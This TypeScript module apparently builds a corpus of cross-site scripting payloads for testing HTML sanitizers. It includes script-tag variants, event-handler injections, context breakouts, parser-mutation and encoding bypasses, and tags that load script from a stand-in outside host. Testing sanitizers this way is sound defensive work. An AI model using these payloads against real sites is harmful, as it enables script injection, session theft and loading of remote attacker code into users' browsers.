import { OUTSIDE, run } from './content.vocabulary.ts';

/** Markup that acts on its own when it is taken for HTML. `id`: what it says of itself when it does. */
export type Markup = (id: string) => string;

const scripts: readonly Markup[] = [
  (id) => `<script>${run(id)}</script>`,
  (id) => `<SCRIPT>${run(id)}</SCRIPT>`,
  (id) => `<sCrIpT>${run(id)}</ScRiPt>`,
  (id) => `<script >${run(id)}</script >`,
  (id) => `<script/x>${run(id)}</script>`,
  (id) => `<script\n>${run(id)}</script\n>`,
  (id) => `<script\t>${run(id)}</script>`,
  (id) => `<script type=module>${run(id)}</script>`,
  (id) => `<script type="text/javascript">${run(id)}</script>`,
  (id) => `<script nonce=x>${run(id)}</script>`,
  (id) => `<script>/*<!--*/${run(id)}//--></script>`,
  (id) => `<script>${run(id)}`,
  (id) => `<script src="data:text/javascript,${run(id)}"></script>`,
  (id) => `<script src=data:,${run(id)}></script>`,
  (id) => `<script src=${OUTSIDE}${id}></script>`,
  (id) => `<script src=//outside.example/${id}></script>`,
  (id) => `<script type=module>import('${OUTSIDE}${id}')</script>`,
  (id) => `<svg><script>${run(id)}</script></svg>`,
  (id) => `<svg><script>//&#10;${run(id)}</script></svg>`,
  (id) => `<svg><script href=data:,${run(id)} /></svg>`,
  (id) => `<math><script>1</script></math><script>${run(id)}</script>`,
  (id) => `<b><i><u><script>${run(id)}</script></u></i></b>`,
  (id) => `<!doctype html><html><body><script>${run(id)}</script>`,
];

/** Elements that trigger an event immediately. */
const eager: readonly (readonly [tag: string, event: string])[] = [
  ['img src=x:', 'onerror'],
  ['img src=""', 'onerror'],
  ['img srcset=x:', 'onerror'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['input type=image src=x:', 'onerror'],
  ['video src=x:', 'onerror'],
  ['audio src=x:', 'onerror'],
  ['audio src=x:', 'onloadstart'],
  ['video><source src=x:', 'onerror'],
  ['link rel=stylesheet href=x:', 'onerror'],
  ['link rel=stylesheet href=data:text/css,', 'onload'],
  ['style', 'onload'],
  ['iframe', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['object data=x:', 'onerror'],
  ['script src=x:', 'onerror'],
  ['details open', 'ontoggle'],
  ['svg', 'onload'],
  ['svg><image href=x:', 'onerror'],
];

/** How an attribute may be written. */
const writings: readonly ((tag: string, event: string, code: string) => string)[] = [
  (tag, event, code) => `<${tag} ${event}=${code}>`,
  (tag, event, code) => `<${tag} ${event}="${code}">`,
  (tag, event, code) => `<${tag.toUpperCase()}\n${event.toUpperCase()}='${code}'>`,
  (tag, event, code) => `<${tag} ${event}\u000c=\t${code} x>`,
];

const handlers: readonly Markup[] = eager.flatMap(([tag, event]) =>
  writings
    // In capitals base64 is something else.
    .slice(0, tag.includes('base64') ? 2 : 4)
    .map(
      (write): Markup =>
        (id) =>
          write(tag, event, run(id)),
    ),
);

/** Elements that wait for a user. */
const waiting: readonly Markup[] = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onfocus',
  'onkeydown',
  'oncopy',
  'onwheel',
  'ondragstart',
  'onanimationstart',
  'oncontextmenu',
  'onbeforetoggle',
  'onscrollend',
].flatMap((event) => [
  (id) => `<b ${event}=${run(id)}>here</b>`,
  (id) => `<input value=here ${event}="${run(id)}" autofocus>`,
]);

/** Closings of a careless page's context. */
const closings = [
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '-->',
  ']]>',
  '?>',
  '}}',
  '\\">',
  '&quot;>',
  '/>',
  '</svg>',
];

const breakouts: readonly Markup[] = closings.flatMap((closing) => [
  (id) => `${closing}<script>${run(id)}</script>`,
  (id) => `x${closing}<img src=x: onerror=${run(id)}>`,
]);

/** Markup that a parser reads differently than a filter. */
const mutations: readonly Markup[] = [
  (id) => `<noscript><p title="</noscript><img src=x: onerror=${run(id)}>">`,
  (id) => `<svg></p><style><a id="</style><img src=x: onerror=${run(id)}>">`,
  (id) => `<svg><desc><img src=x: onerror=${run(id)}></desc></svg>`,
  (id) => `<svg><foreignObject><img src=x: onerror=${run(id)}></foreignObject></svg>`,
  (id) => `<math><annotation-xml encoding=text/html><img src=x: onerror=${run(id)}></annotation-xml></math>`,
  (id) => `<form><div></form><form><img src=x: onerror=${run(id)}>`,
  (id) => `<table><tr><img src=x: onerror=${run(id)}>`,
  (id) => `<img src="x:" title="<" onerror=${run(id)}>`,
  (id) => `<!--><img src=x: onerror=${run(id)}>-->`,
  (id) => `<![CDATA[><img src=x: onerror=${run(id)}>]]>`,
  (id) => `<?xml ><img src=x: onerror=${run(id)}>`,
  (id) => `<x/><img/src=x:/onerror=${run(id)}>`,
  (id) => `<img src=x: onerror=&#114;an&#96;${id}&#96;>`,
  (id) => `<img src=x: onerror=&#x72;an&#x60;${id}&#x60;>`,
  (id) => `<img src=x: onerror=\\u0072an\`${id}\`>`,
  (id) => `<img src=x: onerror=top['r'+'an']\`${id}\`>`,
  (id) => `<custom-element><img src=x: onerror=${run(id)}></custom-element>`,
];

/** Markup that runs immediately, or on a touch. */
export const markup: readonly Markup[] = [...scripts, ...handlers, ...waiting, ...breakouts, ...mutations];
